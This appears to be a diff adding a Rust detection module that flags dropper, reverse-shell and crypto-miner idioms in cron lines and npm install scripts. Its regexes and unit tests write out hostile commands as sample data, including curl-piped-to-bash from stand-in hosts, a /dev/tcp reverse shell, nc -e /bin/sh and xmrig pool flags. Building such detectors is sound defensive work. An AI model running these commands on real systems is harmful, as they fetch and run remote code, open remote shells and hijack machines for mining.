@@ -1,0 +1,178 @@
+//! The suspicious command-line idioms that `cron` (new cron lines) and `npm` (install
+//! scripts) look for, and the miner markers `miner` looks for in names and argv. One catalogue,
+//! so a cron line and a `postinstall` script are judged alike.
+
+use std::sync::LazyLock;
+
+use regex::{Regex, RegexSet};
+
+/// What kind of idiom matched: the class decides the severity and the threat level.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Class {
+    /// Downloads, decodes or obfuscates something to run it.
+    Dropper,
+    /// Hands a shell to a remote peer.
+    ReverseShell,
+    /// Carries crypto-miner markers.
+    Miner,
+}
+
+/// One idiom: its class and the words an alert names it by.
+struct Idiom {
+    class: Class,
+    what: &'static str,
+    regex: &'static str,
+}
+
+const IDIOMS: &[Idiom] = &[
+    Idiom {
+        class: Class::Dropper,
+        what: "base64-decoded execution",
+        regex: r"(?i)base64\s+(-d|--decode|-D)\b|b64decode|frombase64string|atob\(",
+    },
+    Idiom {
+        class: Class::Dropper,
+        what: "download piped to a shell",
+        regex: r"(?i)\b(curl|wget|fetch)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k|a)?sh\b|(ba|da|z)?sh\s+(-c\s+)?[\x22']?(<\(|\$\()\s*(curl|wget)\b",
+    },
+    Idiom {
+        class: Class::Dropper,
+        what: "download to a temporary directory",
+        regex: r"(?i)\b(curl|wget)\b.*(-o|-O|--output(-document)?=?|>)\s*[\x22']?/(tmp|var/tmp|dev/shm)/",
+    },
+    Idiom {
+        class: Class::Dropper,
+        what: "npm install at run time",
+        regex: r"\b(npm|pnpm|yarn)\s+(install|i|add)\b|\bnpx\s",
+    },
+    Idiom {
+        class: Class::Dropper,
+        what: "obfuscated expansion",
+        regex: r"\$\{?IFS\}?|\$\{[^}]*(:[0-9]+:|[#%/^,]{1,2})[^}]*\}|\$'(\\x[0-9a-fA-F]{2}){2,}|\\x[0-9a-fA-F]{2}\\x[0-9a-fA-F]{2}\\x[0-9a-fA-F]{2}",
+    },
+    Idiom {
+        class: Class::Dropper,
+        what: "code evaluated from a string",
+        regex: r"\b(node|python[0-9.]*|perl|ruby|php)\s+-[ecr]\s+.*(eval|exec|Function\(|child_process|spawn|system)\b",
+    },
+    Idiom {
+        class: Class::ReverseShell,
+        what: "reverse shell",
+        regex: r"/dev/(tcp|udp)/|\b(nc|ncat|netcat)\b.*\s-[a-z]*[ec]\s|\bsocat\b.*\bexec:|\bbash\s+-i\s*[>&]|\bmkfifo\b.*\b(nc|ncat|sh)\b|socket\.socket\(.*(subprocess|pty\.spawn|dup2)|\bpty\.spawn\(",
+    },
+    Idiom {
+        class: Class::Miner,
+        what: "crypto-miner marker",
+        regex: MINER_REGEX,
+    },
+];
+
+/// Miner markers: names, protocol URLs and flags of the common miners.
+const MINER_REGEX: &str = r"(?i)xmrig|xmr-stak|minerd|cpuminer|stratum\+(tcp|ssl|tls)://|--donate-level|-o\s+pool\.|cryptonight|randomx|nicehash|moneroocean|\bkdevtmpfsi\b|\bkinsing\b";
+
+static SET: LazyLock<RegexSet> = LazyLock::new(|| {
+    RegexSet::new(IDIOMS.iter().map(|i| i.regex)).expect("the idiom catalogue compiles")
+});
+
+static MINER: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(MINER_REGEX).expect("the miner markers compile"));
+
+/// An idiom found in a line.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Hit {
+    pub class: Class,
+    pub what: &'static str,
+}
+
+/// Every idiom `line` carries.
+pub fn scan(line: &str) -> Vec<Hit> {
+    SET.matches(line)
+        .into_iter()
+        .map(|i| Hit {
+            class: IDIOMS[i].class,
+            what: IDIOMS[i].what,
+        })
+        .collect()
+}
+
+/// The first miner marker in `text`, if any.
+pub fn miner_marker(text: &str) -> Option<&str> {
+    MINER.find(text).map(|m| m.as_str())
+}
+
+/// `a, b` for the alert's detail.
+pub fn describe(hits: &[Hit]) -> String {
+    let mut names: Vec<&str> = hits.iter().map(|h| h.what).collect();
+    names.dedup();
+    names.join(", ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn classes(line: &str) -> Vec<Class> {
+        scan(line).into_iter().map(|h| h.class).collect()
+    }
+
+    #[test]
+    fn suspicious_idioms_are_found() {
+        for line in [
+            "* * * * * root curl -fsSL http://x.example/a.sh | bash",
+            "*/5 * * * * wget -q -O- http://x.example/s | sh",
+            "@reboot root echo Y3VybCB4 | base64 -d | sh",
+            "0 * * * * curl http://x.example/m -o /tmp/.m && chmod +x /tmp/.m",
+            "0 * * * * cd /srv/app && npm install evil-pkg",
+            "* * * * * root c${IFS}u${IFS}r${IFS}l x.example",
+            "* * * * * root bash -c \"$(curl -fsSL x.example)\"",
+            "node -e \"require('child_process').exec('id')\"",
+        ] {
+            assert!(classes(line).contains(&Class::Dropper), "{line}");
+        }
+        for line in [
+            "* * * * * root bash -i >& /dev/tcp/198.51.100.2/4444 0>&1",
+            "* * * * * nc -e /bin/sh 198.51.100.2 4444",
+            "* * * * * socat tcp:198.51.100.2:4444 exec:/bin/sh",
+            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.2 80 > /tmp/f",
+        ] {
+            assert!(classes(line).contains(&Class::ReverseShell), "{line}");
+        }
+        for line in [
+            "@reboot /tmp/.x/xmrig -o pool.minexmr.example:4444",
+            "./run --donate-level 1",
+            "miner -a cryptonight -o stratum+tcp://198.51.100.2:3333",
+        ] {
+            assert!(classes(line).contains(&Class::Miner), "{line}");
+        }
+    }
+
+    #[test]
+    fn ordinary_lines_are_clean() {
+        for line in [
+            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
+            "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf",
+            "25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
+            "30 2 * * * backup tar czf /var/backups/www.tgz /var/www",
+            "MAILTO=root",
+            "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin",
+            "node-gyp rebuild",
+            "node install.js",
+            "prebuild-install || node-gyp rebuild",
+            "husky install",
+            "curl -fsS https://hc-ping.example/abc > /dev/null",
+            "echo \"${HOME}\" ${PATH}",
+        ] {
+            assert!(scan(line).is_empty(), "{line}: {:?}", scan(line));
+        }
+    }
+
+    #[test]
+    fn miner_markers() {
+        assert_eq!(
+            miner_marker("-o stratum+tcp://198.51.100.2:3333"),
+            Some("stratum+tcp://")
+        );
+        assert_eq!(miner_marker("/usr/bin/XMRig"), Some("XMRig"));
+        assert_eq!(miner_marker("/usr/bin/gzip -9 big.tar"), None);
+    }
+}
